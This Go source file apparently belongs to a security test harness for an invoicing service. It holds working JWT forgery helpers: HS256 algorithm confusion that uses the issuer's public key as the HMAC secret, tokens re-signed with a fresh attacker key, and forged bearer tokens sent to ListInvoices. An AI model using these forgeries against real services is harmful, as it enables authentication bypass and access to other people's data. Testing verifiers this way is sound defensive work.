package catalogue

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"

	jose "github.com/go-jose/go-jose/v4"
)

var b64 = base64.RawURLEncoding

// jwt is a decoded compact JWS, for editing.
type jwt struct {
	header  map[string]any
	claims  map[string]any
	payload string // the original payload segment
	sig     string // the original signature segment
	raw     string
}

// parseJWT decodes a compact JWS without verifying it.
func parseJWT(raw string) (*jwt, error) {
	parts := strings.Split(raw, ".")
	if len(parts) != 3 {
		return nil, errors.New("not a compact JWS")
	}
	j := &jwt{payload: parts[1], sig: parts[2], raw: raw}
	for i, dst := range []*map[string]any{&j.header, &j.claims} {
		seg, err := b64.DecodeString(parts[i])
		if err != nil {
			return nil, err
		}
		if err := json.Unmarshal(seg, dst); err != nil {
			return nil, err
		}
	}
	return j, nil
}

// encode is base64url(JSON(v)).
func encode(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // maps of JSON values always marshal
	}
	return b64.EncodeToString(b)
}

// signingInput is header.payload with the claims re-encoded.
func signingInput(header, claims map[string]any) string {
	return encode(header) + "." + encode(claims)
}

// hs256 signs input with HMAC-SHA256 and key.
func hs256(input string, key []byte) string {
	m := hmac.New(sha256.New, key)
	m.Write([]byte(input))
	return input + "." + b64.EncodeToString(m.Sum(nil))
}

// es256 signs input with key, as JWS ES256 (r || s).
func es256(input string, key *ecdsa.PrivateKey) (string, error) {
	sum := sha256.Sum256([]byte(input))
	r, s, err := ecdsa.Sign(rand.Reader, key, sum[:])
	if err != nil {
		return "", err
	}
	sig := make([]byte, 64)
	r.FillBytes(sig[:32])
	s.FillBytes(sig[32:])
	return input + "." + b64.EncodeToString(sig), nil
}

// attackerKey is a fresh P-256 key the issuer never saw.
func attackerKey() (*ecdsa.PrivateKey, error) {
	return ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
}

// publicJWK is key's public part as a JWK.
func publicJWK(key *ecdsa.PrivateKey, kid string) map[string]any {
	pub, err := key.PublicKey.Bytes() // 0x04 || X || Y
	if err != nil {
		panic(err) // a generated P-256 key always encodes
	}
	return map[string]any{
		"kty": "EC", "crv": "P-256", "kid": kid, "alg": "ES256", "use": "sig",
		"x": b64.EncodeToString(pub[1:33]), "y": b64.EncodeToString(pub[33:]),
	}
}

// issuerKeyPEM is the issuer's public signing key for kid as PEM (SPKI),
// the bytes a confused verifier would use as an HMAC secret.
func (t *Target) issuerKeyPEM(ctx context.Context, kid string) ([]byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, t.IssuerURL+"/.well-known/jwks.json", nil)
	if err != nil {
		return nil, err
	}
	resp, err := t.HTTP.Do(req)
	if err != nil {
		return nil, err
	}
	defer func() { _ = resp.Body.Close() }()
	var set jose.JSONWebKeySet
	if err := json.NewDecoder(io.LimitReader(resp.Body, maxResponse)).Decode(&set); err != nil {
		return nil, fmt.Errorf("jwks: %w", err)
	}
	keys := set.Key(kid)
	if len(keys) == 0 {
		return nil, fmt.Errorf("jwks: no key %q", kid)
	}
	der, err := x509.MarshalPKIXPublicKey(keys[0].Key)
	if err != nil {
		return nil, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), nil
}

// freshToken is a genuine reporting-job access token, decoded.
func (t *Target) freshToken(ctx context.Context) (*jwt, error) {
	raw, err := t.reportingJob(ctx)
	if err != nil {
		return nil, err
	}
	return parseJWT(raw)
}

// forged sends a token built from a genuine reporting-job token by forge
// to ListInvoices.
func forged(forge func(ctx context.Context, t *Target, j *jwt) (string, error)) func(context.Context, *Target) (*Response, error) {
	return func(ctx context.Context, t *Target) (*Response, error) {
		j, err := t.freshToken(ctx)
		if err != nil {
			return nil, err
		}
		tok, err := forge(ctx, t, j)
		if err != nil {
			return nil, err
		}
		return t.do(ctx, call{procedure: listInvoices, bearer: tok})
	}
}

// withHeader returns a copy of j's header with the given fields set (a nil
// value deletes one).
func (j *jwt) withHeader(set map[string]any) map[string]any {
	h := map[string]any{}
	for k, v := range j.header {
		h[k] = v
	}
	for k, v := range set {
		if v == nil {
			delete(h, k)
		} else {
			h[k] = v
		}
	}
	return h
}

// attackerSigned signs j's claims with a fresh attacker key under a header
// edited by set (alg ES256 kept).
func attackerSigned(set func(key *ecdsa.PrivateKey, j *jwt) map[string]any) func(context.Context, *Target, *jwt) (string, error) {
	return func(_ context.Context, _ *Target, j *jwt) (string, error) {
		key, err := attackerKey()
		if err != nil {
			return "", err
		}
		return es256(signingInput(j.withHeader(set(key, j)), j.claims), key)
	}
}
